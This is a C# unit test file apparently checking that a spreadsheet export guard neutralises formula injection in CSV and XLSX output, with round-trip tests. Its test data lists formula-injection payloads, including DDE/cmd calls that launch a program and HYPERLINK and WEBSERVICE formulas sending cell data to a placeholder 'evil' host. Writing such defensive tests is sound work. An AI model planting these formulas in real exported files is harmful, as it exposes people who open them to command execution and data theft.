using System.Text;
using System.Text.Json.Nodes;
using Flatfile.Agent.Handlers.Export;
using Flatfile.Agent.Handlers.Reading;
using Flatfile.Api;

namespace Flatfile.Agent.Handlers.Tests.Export;

/// <summary>No text of an export runs as a formula, and every text comes back.</summary>
public sealed class FormulaGuardTests
{
    private static readonly string[] Starts = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "|cmd", "%0A=1"];

    private static readonly string[] Before = ["", " ", "\t", "\"", "'", "\n", "\r\n", ",", ";", "\u00A0", "\u200B", "\uFEFF"];

    private static readonly string[] Classics =
    [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil/?\"&A1,\"ok\")", "=WEBSERVICE(\"http://evil/\")", "=IMPORTXML(\"http://evil/\",\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "\"=1+1\"", ";=1", "＋1", "－1", "＠SUM(1)", "+49 30 1234", "-12.5",
    ];

    public static TheoryData<string> Dangerous => [.. Texts];

    private static IEnumerable<string> Texts => Before.SelectMany(b => Starts.Select(s => b + s)).Concat(Classics).Distinct();

    [Theory]
    [MemberData(nameof(Dangerous))]
    public void ATextThatMayRunGetsAnApostropheAndGivesItBack(string text)
    {
        Assert.True(FormulaGuard.Needs(text));
        Assert.Equal(text, FormulaGuard.Undo("'" + text).ToString());
    }

    [Theory]
    [InlineData("")]
    [InlineData("plain")]
    [InlineData("1-2")]
    [InlineData("a=b")]
    [InlineData("007")]
    [InlineData(" (1)")]
    public void AnotherTextStaysAsItIs(string text)
    {
        Assert.False(FormulaGuard.Needs(text));
        Assert.Equal(text, FormulaGuard.Undo(text).ToString());
    }

    [Fact]
    public async Task InEveryKindOfFileNoValueLabelOrNameIsAFormulaAndNumbersStayNumbers()
    {
        await using var world = await ExportWorld.StartAsync(new SheetConfig
        {
            Name = "=HYPERLINK(1)", Slug = "evil",
            Fields = [new Property { Key = "t", Type = PropertyType.String, Label = "=1+1" }, new Property { Key = "n", Type = PropertyType.Number, Label = "n" }],
        });
        List<string> texts = [.. Texts];
        await world.AddAsync(0, [.. texts.Select(t => new JsonObject { ["t"] = t, ["n"] = -12.5 }.ToJsonString())]);

        using var workbook = new OpenedWorkbook(await world.FileAsync(await world.ExportAsync()));
        Assert.Equal(0, workbook.Formulas(0));
        var cells = workbook.Cells(0);
        Assert.Equal("=1+1", cells["A1"].Text);
        for (var i = 0; i < texts.Count; i++)
        {
            Assert.Equal(("inlineStr", texts[i]), (cells[$"A{i + 2}"].Type, cells[$"A{i + 2}"].Text));
            Assert.Equal(("n", "-12.5"), (cells[$"B{i + 2}"].Type, cells[$"B{i + 2}"].Text));
        }

        var csv = await world.TextAsync(await world.ExportAsync("""{"format":"csv","bom":false,"delimiter":"tab"}"""));
        Assert.StartsWith("\"'=1+1\"\tn\r\n", csv);
        var result = await world.ExportAsync("""{"format":"csv","zip":true}""");
        using var archive = new System.IO.Compression.ZipArchive(await world.FileAsync(result));
        Assert.Equal("_=HYPERLINK(1).csv", Assert.Single(archive.Entries).FullName);
    }

    /// <summary>Read back with the reading option, or without it where nothing was guarded, an exported file gives the values it was made of.</summary>
    [Theory]
    [InlineData(",", true, true)]
    [InlineData(";", false, true)]
    [InlineData("tab", true, true)]
    [InlineData(",", false, false)]
    [InlineData(";", true, false)]
    [InlineData("tab", false, false)]
    public async Task RandomTablesComeBackEqual(string delimiter, bool quoteAll, bool guarded)
    {
        var random = new Random(44);
        for (var round = 0; round < 3_500; round++)
        {
            var rows = Enumerable.Range(0, 1 + random.Next(6)).Select(_ => Enumerable.Range(0, 3).Select(_ => RandomText(random)).ToArray()).ToList();
            rows[0][0] = "k" + rows[0][0];
            var options = new ExportOptions { Format = "csv", Delimiter = delimiter, QuoteAll = quoteAll, GuardFormulas = guarded, Bom = round % 2 == 0 };
            var bytes = Written(rows, options);

            var read = await ReadAsync(bytes, new ReadOptions { Guarded = guarded, HeaderRow = 1, Delimiter = delimiter == "tab" ? "\t" : delimiter, Quote = "\"" });

            Assert.True(rows.Count == read.Count && rows.Zip(read).All(p => p.First.SequenceEqual(p.Second)), $"{round}: {Encoding.UTF8.GetString(bytes)}");
        }
    }

    private static string RandomText(Random random)
    {
        string[] pieces = ["=", "+", "-", "@", "'", "''", "\"", ",", ";", "\t", " ", "a", "Ada", "1", "%", "|", "＝", "é", "😀"];
        return string.Concat(Enumerable.Range(0, random.Next(6)).Select(_ => pieces[random.Next(pieces.Length)]));
    }

    private static byte[] Written(List<string[]> rows, ExportOptions options)
    {
        Property[] fields = [.. "abc".Select(c => new Property { Key = $"{c}", Type = PropertyType.String })];
        var sheet = new Sheet { Id = "us_sh_1", WorkbookId = "us_wb_1", Name = "s", Slug = "s", Config = new SheetConfig { Name = "s", Fields = fields } };
        var target = new MemoryStream();
        using var writer = new CsvWriter(new ExportFiles(target, zip: false, DateTimeOffset.UnixEpoch), options);
        writer.Begin(new ExportSheet(sheet, fields, ["first label", "second label", "third label"]));
        var row = new ExportRow(3, ", ");
        foreach (var cells in rows)
        {
            var json = Encoding.UTF8.GetBytes(new JsonArray([.. cells.Select(c => (JsonNode)JsonValue.Create(c))]).ToJsonString());
            row.Clear(json);
            var reader = new System.Text.Json.Utf8JsonReader(json);
            reader.Read();
            for (var i = 0; i < cells.Length; i++)
            {
                reader.Read();
                row.Set(i, ref reader);
            }

            writer.Write(row);
        }

        writer.End();
        writer.Finish();
        return target.ToArray();
    }

    private static async Task<List<string[]>> ReadAsync(byte[] bytes, ReadOptions options)
    {
        var content = await FileContent.OpenAsync(new MemoryStream(bytes), "a.csv", bytes.Length, CancellationToken.None);
        await using var file = await FileFormats.OpenAsync(content, options, CancellationToken.None);
        var table = (await file.NextTableAsync(CancellationToken.None))!;
        var rows = new List<string[]>();
        while (await table.ReadAsync(CancellationToken.None))
        {
            Assert.Null(table.Refusal);
            rows.Add([table.Cell(0).ToString(), table.Cell(1).ToString(), table.Cell(2).ToString()]);
        }

        return rows;
    }
}
